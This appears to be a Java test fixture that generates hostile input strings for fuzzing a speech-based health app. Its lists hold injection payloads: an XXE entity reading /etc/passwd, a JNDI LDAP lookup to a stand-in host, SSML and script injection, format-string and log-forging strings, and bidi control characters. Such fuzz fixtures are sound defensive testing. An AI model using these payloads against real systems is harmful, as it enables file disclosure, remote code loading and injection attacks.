package needlecare.hostile;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/** What nobody says, but what a slot could hold. */
final class HostileWords {
    /** Stands in much of it; nothing that holds it may ever be spoken, shown or logged. */
    static final String MARKER = "zq9x";

    static final int LONGEST = 8000;

    private static final List<String> SPEECH_INJECTION = List.of(
            "<audio src='https://evil.example/zq9x.mp3'/>",
            "</speak><speak>zq9x",
            "<![CDATA[zq9x]]>",
            "<!-- zq9x -->",
            "&zq9x; &#0; &#x1F;",
            "<break time='10s'/> coffee",
            "<amazon:effect name=\"whispered\">zq9x</amazon:effect>",
            "<?xml version='1.0'?><!DOCTYPE s [<!ENTITY zq9x SYSTEM 'file:///etc/passwd'>]>&zq9x;",
            "\" onload=\"zq9x\" '>",
            "<script>zq9x()</script>");

    private static final List<String> LOG_INJECTION = List.of(
            "coffee\n2026-11-24T10:00:00Z ERROR zq9x",
            "\r\n{\"_aws\":{\"Timestamp\":1},\"zq9x\":1}",
            "\u001b[31mzq9x\u001b[0m",
            "${jndi:ldap://zq9x.example/a}",
            "%s%n%x zq9x",
            "\"}\n{\"Topic\":\"zq9x\"}",
            "\u2028zq9x\u2029\u0085");

    private static final List<String> OUR_OWN_PLACEHOLDERS = List.of(
            "{emergency} zq9x", "{thing}", "{words}", "{zq9x}", "{{{", "}", "{Thing} {provider}", "AMAZON.HelpIntent");

    private static final List<String> DIRECTIONS = List.of(
            "\u0635\u062f\u0631\u064a \u064a\u0624\u0644\u0645\u0646\u064a",
            "\u05db\u05d5\u05d0\u05d1 \u05dc\u05d9 zq9x",
            "\u202Echest\u202C",
            "\u2066my\u2069 \u200Fchest\u200E",
            "ch\u200Best h\u00ADurts",
            "\uFEFFcoffee");

    private static final List<String> EVERYDAY = List.of(
            "can i have a zq9x coffee",
            "my chest hurts zq9x",
            "zq9x",
            "no chest pain at zq9x",
            "is it normal",
            "six hours ago",
            "PT6H",
            "2026-W47",
            "99999999999999999999",
            "-1",
            "?",
            "null",
            "true");

    /** What costs most when a pattern goes back and forth: the same again and again. */
    private static final List<String> REPEATED = List.of(
            "a",
            "my chest ",
            "no ",
            "not ",
            "coffee and ",
            "'",
            "i can't ",
            "((",
            "no pain but ",
            "a'b ",
            "\u0301",
            "\uD83D\uDE31",
            " ",
            "is it normal that my ",
            "chest chest breath ",
            "<",
            "&amp;",
            "\n");

    private HostileWords() {}

    static Arbitrary<String> any() {
        Arbitrary<String> part = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(200)),
                Tuple.of(
                        2,
                        Arbitraries.strings()
                                .withCharRange('\u0000', '\u001f')
                                .withCharRange('\u007f', '\u009f')
                                .withCharRange('\uD800', '\uDFFF')
                                .withCharRange('\uFFF0', '\uFFFF')
                                .ofMaxLength(60)),
                Tuple.of(2, Arbitraries.of(SPEECH_INJECTION)),
                Tuple.of(2, Arbitraries.of(LOG_INJECTION)),
                Tuple.of(1, Arbitraries.of(OUR_OWN_PLACEHOLDERS)),
                Tuple.of(2, Arbitraries.of(DIRECTIONS)),
                Tuple.of(3, Arbitraries.of(EVERYDAY)),
                Tuple.of(
                        1,
                        Arbitraries.strings().withCharRange('\u0300', '\u036f').ofMaxLength(300)));
        Arbitrary<String> joined = part.list().ofMinSize(1).ofMaxSize(4).map(parts -> String.join(" ", parts));
        return Arbitraries.frequencyOf(
                Tuple.of(12, joined), Tuple.of(1, Arbitraries.of(REPEATED).map(HostileWords::repeated)));
    }

    /** Each of the repeated ones, as long as a slot can be. */
    static List<String> repetitions() {
        return REPEATED;
    }

    static String repeated(String text) {
        return repeated(text, LONGEST);
    }

    static String repeated(String text, int length) {
        return text.repeat(length / text.length() + 1).substring(0, length);
    }
}
